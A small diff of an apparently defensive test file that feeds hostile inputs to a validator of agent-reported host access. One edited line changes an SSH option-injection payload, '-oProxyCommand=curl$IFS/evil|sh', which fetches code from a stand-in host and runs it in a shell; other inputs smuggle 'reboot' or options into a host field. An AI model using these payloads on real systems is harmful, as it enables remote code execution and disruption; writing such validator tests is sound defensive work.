@@ -31,7 +31,7 @@ describe('the access that an agent reports', () => {
   );
 
   it.each([
-    '-oProxyCommand=curl\u0024{IFS}evil|sh',
+    '-oProxyCommand=curl$IFS/evil|sh',
     '-l',
     'host;reboot',
     'host reboot',
